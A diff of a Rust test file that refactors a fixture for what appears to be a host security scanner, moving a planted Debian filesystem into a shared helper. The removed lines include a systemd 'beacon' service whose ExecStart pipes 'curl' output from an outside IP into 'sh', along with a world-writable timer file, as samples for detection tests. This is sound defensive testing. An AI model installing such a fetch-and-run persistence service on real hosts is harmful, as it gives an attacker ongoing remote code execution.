@@ -9,22 +9,11 @@ use serde_json::Value;
 use crate::common::*;
 
 fn planted() -> Fx {
-    let fx = Fx::new();
-    fx.debian_layout()
-        .file("/etc/passwd", "root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\n")
-        .file("/etc/systemd/system/beacon.timer", "[Timer]\nOnCalendar=hourly\n[Install]\nWantedBy=timers.target\n")
-        .file(
-            "/etc/systemd/system/beacon.service",
-            "[Service]\nExecStart=/bin/sh -c 'curl -s http://198.51.100.7/p | sh'\n",
-        )
-        .link("/etc/systemd/system/timers.target.wants/beacon.timer", "../beacon.timer")
-        .file("/etc/systemd/system/report.timer", "[Timer]\nOnCalendar=daily\n")
-        .mode("/etc/systemd/system/report.timer", 0o666)
-        .file("/var/lib/systemd/linger/alice", "")
-        .file(
-            "/etc/tg.yaml",
-            "waivers:\n  - { policy: TG201, subject: \"*alice\", reason: on-call account, expires: 2999-01-01 }\n",
-        );
+    let fx = crate::common::planted();
+    fx.file(
+        "/etc/tg.yaml",
+        "waivers:\n  - { policy: TG201, subject: \"*alice\", reason: on-call account, expires: 2999-01-01 }\n",
+    );
     fx
 }
 
